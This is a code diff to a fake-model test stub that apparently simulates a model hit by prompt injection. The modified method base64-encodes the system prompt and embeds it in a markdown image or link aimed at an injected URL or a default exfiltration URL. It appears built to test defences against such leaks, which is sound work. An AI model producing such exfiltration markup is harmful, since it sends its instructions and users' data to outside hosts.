@@ -119,9 +119,10 @@ class FakeModel:
         url = _URL.search(message)
         target = url.group(0).rstrip(".,") if url else DEFAULT_EXFIL_URL
         data = quote(base64.b64encode(self.system_prompt.encode()).decode())
+        target += "&" if "?" in target else "?"
         if image:
-            return f"Here is your summary:\n\n![summary]({target}?d={data})"
-        return f"Here is the link you asked for: [open summary]({target}?d={data})"
+            return f"Here is your summary:\n\n![summary]({target}d={data})"
+        return f"Here is the link you asked for: [open summary]({target}d={data})"
 
     def _leak(self, intent: Intent) -> str:
         if intent is Intent.ENCODE_BASE64:
